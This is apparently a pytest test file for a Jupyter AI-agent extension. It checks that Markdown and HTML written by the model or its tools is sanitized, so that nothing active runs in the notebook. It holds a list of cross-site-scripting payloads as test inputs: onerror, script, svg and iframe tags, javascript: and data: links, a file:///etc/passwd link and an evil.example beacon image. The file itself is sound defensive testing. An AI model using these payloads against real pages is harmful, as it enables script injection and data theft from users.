"""Nothing the model or a tool writes reaches the notebook active (issue 20, point 2).

JupyterLab and Notebook 7 render the outputs of a cell the user ran as trusted, unsanitized: an
``<img onerror>`` in the answer, or in the first 200 characters of a tool result that
``%agent history`` shows, ran in the Jupyter origin. These tests feed hostile Markdown and HTML
through the sanitizer (``notebook/inert.py``), through a real ``InteractiveShell`` (the answer
and ``%agent history``, the model faked at the HTTP boundary) and through the tool views, and
parse every HTML part that comes out for anything a browser would run. The browser itself is
``tests/browser/test_inert.py``.
"""

from __future__ import annotations

import ast
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from fake_anthropic import Reply, text, tool_use
from IPython.core.interactiveshell import InteractiveShell
from IPython.utils.capture import capture_output
from ipython_shell import run_ok, use_fake

import jupyter_agent.notebook as notebook_package
from jupyter_agent.notebook.views import rich_renderer

#: Markdown a hostile model (or a page it read) writes: every way to make a page run something.
HOSTILE = "\n\n".join(
    [
        "# Report",
        "<img src=x onerror=\"window.__pwned='img'\">",
        "<script>window.__pwned='script'</script>",
        "<svg onload=\"window.__pwned='svg'\"><circle r='1'/></svg>",
        "<iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\"></iframe>",
        "<form action='javascript:alert(1)'><button>go</button></form>",
        "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
        "<a href=\"javascript:window.__pwned='a'\">raw link</a>",
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
        "[md link](javascript:window.__pwned='md') [tab link](java\tscript:alert(1))",
        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<javascript:alert(1)> ![pic](javascript:alert(1)) ![beacon](https://evil.example/p.png?k=1)",
        "[ref link][r]\n\n[r]: javascript:alert(1)",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        "<details open ontoggle=\"window.__pwned='details'\"><summary>s</summary></details>",
    ]
)

_BAD_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "form", "svg", "math", "style",
    "link", "meta", "base", "button", "textarea", "select", "audio", "video", "source", "applet",
}  # fmt: skip
_SAFE_SCHEMES = {"http", "https", "mailto"}


class _ActiveFinder(HTMLParser):
    """Collects what a browser would run or load in an HTML fragment, and its visible text."""

    def __init__(self, *, allow_style: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_style = allow_style
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _BAD_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "xlink:href"):
                self.problems.append(f"<{tag} {name}>")
            elif name == "style" and not self.allow_style:
                self.problems.append(f"<{tag} style>")
            elif name == "href":
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", re.sub(r"[\x00-\x20]", "", value), re.I)
                if scheme and scheme.group(1).lower() not in _SAFE_SCHEMES:
                    self.problems.append(f"<{tag} href={value!r}>")
            elif name in ("src", "data", "poster") and not value.startswith(
                "data:image/png;base64,"
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def active_content(bundle: dict[str, Any], *, allow_style: bool = True) -> list[str]:
    """What in a display bundle a trusted Jupyter frontend would run or load."""
    problems = []
    markdown = bundle.get("text/markdown")
    if isinstance(markdown, str) and re.search(r"<[a-z!/]|javascript:|data:", markdown, re.I):
        problems.append("raw HTML or a script link in text/markdown (rendered unsanitized)")
    for mime in ("image/svg+xml", "application/javascript", "text/javascript"):
        if mime in bundle:
            problems.append(mime)
    markup = bundle.get("text/html")
    if isinstance(markup, str):
        problems.extend(find_active(markup, allow_style=allow_style))
    return problems


def find_active(markup: str, *, allow_style: bool = True) -> list[str]:
    finder = _ActiveFinder(allow_style=allow_style)
    finder.feed(markup)
    finder.close()
    return finder.problems


def visible_text(markup: str) -> str:
    finder = _ActiveFinder(allow_style=True)
    finder.feed(markup)
    finder.close()
    return "".join(finder.text)


# -- the answer's display -------------------------------------------------------------------


def test_the_answer_display_holds_nothing_active_and_shows_the_html_as_text() -> None:
    data, metadata = _bundle(rich_renderer.MarkdownText(HOSTILE))
    assert active_content(data, allow_style=False) == []
    assert "text/markdown" not in data  # the frontend's unsanitizing renderer never sees it
    shown = visible_text(data["text/html"])
    assert "<img src=x onerror=" in shown and "<script>" in shown  # visible, as text
    assert "md link" in shown and "raw link" in shown
    assert data["text/plain"].startswith("# Report")
    assert metadata == {"jupyter_agent": {"kind": "answer"}}


def _bundle(item: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    bundle = item._repr_mimebundle_()
    if isinstance(bundle, tuple):
        return bundle[0], bundle[1]
    return bundle, {}


def test_markdown_still_renders_as_markdown() -> None:
    from jupyter_agent.notebook.inert import markdown_html

    rendered = markdown_html(
        "## Sales\n\n- **north** up\n- *south* down\n\n1. one\n2. two\n\n"
        "| region | total |\n|---|---|\n| north | 12 |\n\n"
        "```python\nprint('<b>')\n```\n\nUse `df.head()` and see "
        "[the docs](https://pandas.pydata.org), <https://example.org>, "
        "[notes](notes.md) or [mail](mailto:a@example.org).\n\n$$x_1 + y_1$$\n\n~~old~~"
    )
    for tag in ("<h2>", "<strong>", "<em>", "<ul>", "<ol>", "<table>", "<pre><code", "<del>"):
        assert tag in rendered, tag
    assert "print(&#x27;&lt;b&gt;&#x27;)" in rendered or "print('&lt;b&gt;')" in rendered
    assert '<a href="https://pandas.pydata.org"' in rendered
    assert '<a href="https://example.org"' in rendered
    assert '<a href="notes.md"' in rendered and '<a href="mailto:a@example.org"' in rendered
    assert "$$" in rendered and "x_1" in rendered  # left for MathJax, not turned into emphasis
    assert find_active(rendered, allow_style=False) == []


def test_images_become_links_so_the_page_fetches_nothing() -> None:
    from jupyter_agent.notebook.inert import markdown_html

    rendered = markdown_html("![chart](https://evil.example/p.png?secret=42)")
    assert "<img" not in rendered
    assert '<a href="https://evil.example/p.png?secret=42"' in rendered
    assert "image: chart" in visible_text(rendered)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
    ],
)
def test_link_targets_other_than_web_and_mail_are_dropped(url: str) -> None:
    from jupyter_agent.notebook.inert import markdown_html, view_html

    for markup in (markdown_html(f"[x](<{url}>)"), view_html(f'<a href="{url}">x</a>')):
        assert find_active(markup) == [], markup
        assert "x" in visible_text(markup)


def test_the_views_own_markup_is_cleaned_too() -> None:
    """A view that forgets to escape still shows nothing active (defence in depth)."""
    from jupyter_agent.notebook.inert import html_bundle

    data = html_bundle(f"<div style='color: red'>{HOSTILE}</div>", "plain")
    assert active_content(data) == []
    assert 'style="color:red"' in data["text/html"]  # the views' own styles stay
    kept = html_bundle('<img src="data:image/png;base64,AAAA" alt="t">', "")["text/html"]
    assert 'src="data:image/png;base64,AAAA"' in kept  # thumbnails stay
    dropped = html_bundle('<img src="data:image/svg+xml;base64,AAAA">', "")["text/html"]
    assert "svg" not in dropped


# -- through a real shell -------------------------------------------------------------------


def test_answer_and_history_in_a_shell_hold_nothing_active(
    shell: InteractiveShell,
    tmp_path: Path,
) -> None:
    """The streamed answer, the tool-call record and ``%agent history`` (whose tool-result
    preview needs no model cooperation: a file the agent reads is enough)."""
    (tmp_path / "page.html").write_text(
        "<img src=x onerror=\"window.__pwned='history'\"> <svg onload=alert(1)> tail\n"
    )
    use_fake(
        shell,
        Reply([tool_use("toolu_1", "read_file", {"file_path": "page.html"})]),
        text(HOSTILE),
    )
    run_ok(shell, "%config AgentMagics.ui = 'widgets'")
    with capture_output() as captured:
        run_ok(shell, "%%agent\nRead page.html")
    with capture_output() as history:
        run_ok(shell, "%agent history")
    outputs = captured.outputs + history.outputs
    bundles = [(o.data, o.metadata or {}) for o in outputs]
    assert bundles
    for data, _ in bundles:
        assert active_content(data, allow_style=True) == [], data
    answers = [d for d, m in bundles if m.get("jupyter_agent", {}).get("kind") == "answer"]
    assert answers and "<img src=x onerror=" in visible_text(answers[-1]["text/html"])
    [transcript] = [d for d, m in bundles if m.get("jupyter_agent", {}).get("kind") == "history"]
    assert find_active(transcript["text/html"], allow_style=False) == []
    shown = visible_text(transcript["text/html"])
    assert "onerror=" in shown and "read_file" in shown


def test_tool_views_hold_nothing_active() -> None:
    """The live view's HTML widgets, the static record and the approval prompt."""
    from jupyter_agent.approvals import ApprovalRequest
    from jupyter_agent.notebook.views.call_record import StaticCall, StaticCallGroup
    from jupyter_agent.notebook.views.widgets.approval_prompt import ApprovalPrompt
    from jupyter_agent.notebook.views.widgets.tool_call_group import ToolCallGroup
    from jupyter_agent.notebook.views.widgets.tool_call_view import ToolCallView

    arguments = {"path": HOSTILE, HOSTILE: 1}
    live_group, static_group = ToolCallGroup(), StaticCallGroup()
    for group, kind in ((live_group, ToolCallView), (static_group, StaticCall)):
        for call_id in ("a", "b"):
            call = kind(call_id, "read_<b>file</b>", arguments)
            group.add(call)  # type: ignore[arg-type]
            call.finish(HOSTILE, is_error=call_id == "b", duration_s=0.1)
        assert active_content(group.static_bundle()) == []
    for view in live_group.views:
        view.expanded = True
        for part in _html_widgets(view):
            assert find_active(part.value) == [], part.value
    prompt = ApprovalPrompt(ApprovalRequest("c1", "run_<i>bash</i>", arguments))
    for part in _html_widgets(prompt):
        assert find_active(part.value) == [], part.value
    from jupyter_agent.approvals import Decision

    prompt.decide(Decision(False, HOSTILE))
    assert active_content(prompt.static_bundle()) == []
    live_group.close_all()
    prompt.close_all()


def _html_widgets(widget: Any) -> list[Any]:
    import ipywidgets as widgets

    found = [widget] if isinstance(widget, widgets.HTML) else []
    for child in getattr(widget, "children", ()):
        found.extend(_html_widgets(child))
    return found


# -- no view can forget ---------------------------------------------------------------------

#: The only modules that may build HTML or Markdown display parts or HTML widgets.
ALLOWED = {"inert.py", "views/widgets/inert_html.py"}
#: Modules that only *read* such parts from other cells' outputs (never display them).
READERS = {("kernel/recorder.py", "text/markdown")}
_FORBIDDEN = [
    re.compile(pattern)
    for pattern in (
        r"text/html",
        r"text/markdown",
        r"(?<!\w)(?:\w+\.)?HTML\(",  # widgets.HTML(, IPython.display.HTML(
        r"(?<!\w)(?:\w+\.)?Markdown\(",
        r"_repr_(?:html|markdown)_",
    )
]


def test_html_and_markdown_outputs_are_built_in_one_place() -> None:
    """Every display bundle with HTML or Markdown comes from ``inert.py`` (sanitized there);
    a new view that writes ``"text/html"``, ``widgets.HTML(`` or IPython's ``HTML(``/
    ``Markdown(`` itself fails here."""
    root = Path(notebook_package.__file__).parent
    offenders = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative in ALLOWED:
            continue
        source = path.read_text()
        code = _without_docstrings(source)
        for needle in _FORBIDDEN:
            if needle.search(code) and (relative, needle.pattern) not in READERS:
                offenders.append(f"{relative}: {needle.pattern}")
    assert offenders == []


def _without_docstrings(source: str) -> str:
    """The module's code with its docstrings blanked (they may name what they avoid)."""
    tree = ast.parse(source)
    lines = source.splitlines()
    for node in ast.walk(tree):
        body = getattr(node, "body", None)
        if not isinstance(body, list) or not body:
            continue
        first = body[0]
        if (
            isinstance(first, ast.Expr)
            and isinstance(first.value, ast.Constant)
            and isinstance(first.value.value, str)
        ):
            assert first.end_lineno is not None
            for number in range(first.lineno - 1, first.end_lineno):
                lines[number] = ""
    return "\n".join(line.split("#", 1)[0] for line in lines)
